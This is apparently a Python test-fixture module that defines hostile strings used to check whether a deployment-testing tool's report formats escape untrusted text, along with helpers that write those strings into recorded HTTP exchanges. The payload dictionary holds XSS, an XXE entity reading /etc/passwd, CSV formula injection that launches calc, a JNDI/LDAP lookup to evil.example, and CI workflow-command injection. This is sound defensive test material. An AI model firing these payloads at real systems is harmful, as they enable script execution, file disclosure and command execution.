"""Hostile text that deployments may send, for all report formats, and recordings that contain it."""

from __future__ import annotations

import json
from pathlib import Path

from ringback.deployment.evidence import Recorder
from ringback.deployment.redaction import Redactor

__all__ = ["HARMLESS", "HOSTILE", "hostile_record", "hostile_windows"]

HARMLESS = "a plain word"
HOSTILE: dict[str, str] = {
    "nul": "a\x00b",
    "controls": "".join(map(chr, range(0x20))) + "\x7f\x80\x9b",
    "ansi": "\x1b[31mred\x1b[0m\x1b]0;title\x07\x1b[2J",
    "lone surrogate": "\ud800 and \udfff",
    "not in XML": "\ufffe\uffff\ufdd0\U0001ffff",
    "right to left": "\u202egnirts\u202c\u2066\u200f\u061c",
    "zalgo": "a" + "\u0301" * 5_000,
    "cdata": "]]> <![CDATA[ ]]>",
    "comment": "<!-- --> <!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "script": "<script>alert(1)</script><img src=x onerror=alert(1)>\"'><svg/onload=alert(1)>",
    "end tags": "</code></pre></td></table></details></title></svg></failure>",
    "entities": "&#0; &#60;b&#62; &lt;b&gt; &amp;amp; &nosuch;",
    "markdown": "# h\n\n- l\n\n> q\n\n| a | b |\n|---|---|\n| c | d |\n\n***\n**b** _e_ ~~s~~ `c` \\",
    "fences": "```\n~~~\n``````\n````` `` ` ``",
    "links": "[x](javascript:alert(1)) ![x](http://evil.example/p.png) <http://evil.example> [r]: http://evil.example",
    "autolinks": "http://evil.example www.evil.example mailto:a@b.example a@b.example xmpp:a@b.example",
    "references": "@someone @org/team #123 GH-123 org/repo#1 a5c3785ed8d6a35868bc169f07e40e889087fd2e :tada:",
    "footnote": "[^1]\n\n[^1]: a note",
    "front matter": "---\ntitle: x\n---\n",
    "mathematics": "$x$ $$\\href{javascript:alert(1)}{x}$$ ```math",
    "workflow commands": "::error file=x::y\n::set-output name=a::b\n::stop-commands::t\n##[error]x ##vso[task.x]",
    "service messages": "##teamcity[testFailed name='x']\n[[ATTACHMENT|/etc/passwd]]",
    "formula": '=HYPERLINK("http://evil.example")',
    "formula plus": "+1+cmd|' /C calc'!A0",
    "formula minus": "-2+3",
    "formula at": "@SUM(1+9)*cmd|' /C calc'!A0",
    "formula tab": "\t=1+1",
    "csv": 'a";"b",c\r\nd;e',
    "placeholders": "{0} {1} {{2}} {x} [here](0) [there](sarif:/runs/0)",
    "templates": "${{ secrets.TOKEN }} $[[ inputs.x ]] {{ 7*7 }} {% raw %} ${jndi:ldap://evil.example}",
    "line separators": "a\u2028b\u2029c\x85d\x0be\x0cf\rg",
    "long": "L" * 3_000_000,
    "long lines": "x\n" * 500_000,
    "backticks": "`" * 10_000,
    "brackets": "[" * 50_000,
    "quotes": ">" * 50_000,
    "scripts": "電話 звонок مكالمة ☎️ 🏳️‍🌈",
}
"""Kind of attack -> the text."""


def hostile_record(path: Path, *texts: str) -> Path:
    """Exchanges as a run writes them to `exchanges.ndjson`, with each text wherever a deployment provides text."""
    recorder = Recorder(Redactor("the-access-token-of-this-run", {}), path)
    for text in texts:
        sent = text.encode("utf-8", "surrogatepass")
        recorder.record(
            purpose=f"trigger: {text[:2_000]}",
            begun=1.0,
            ended=1.25,
            method="POST",
            url=f"https://ivr.example.com/v2/call?x={text[:2_000]}",
            request_headers=[("content-type", "application/json"), ("x-said", text[:2_000])],
            request_body=sent,
            status=200,
            response_headers=[("content-type", text[:2_000]), ("location", text[:2_000]), (text[:2_000], "x")],
            response_body=sent,
            failure=text[:2_000],
        )
    recorder.close()
    return path


def hostile_windows(path: Path, *texts: str) -> Path:
    """Load windows (`load_windows.ndjson`) with each text in members of the right and of the wrong type."""
    windows = [
        {"from_s": 0.0, "to_s": text, "phase": text, "limited": True, "limited_by": [text, text], "cpu": {"a": text}}
        for text in texts
    ]
    path.write_text("".join(json.dumps(window) + "\n" for window in windows), encoding="ascii")
    return path
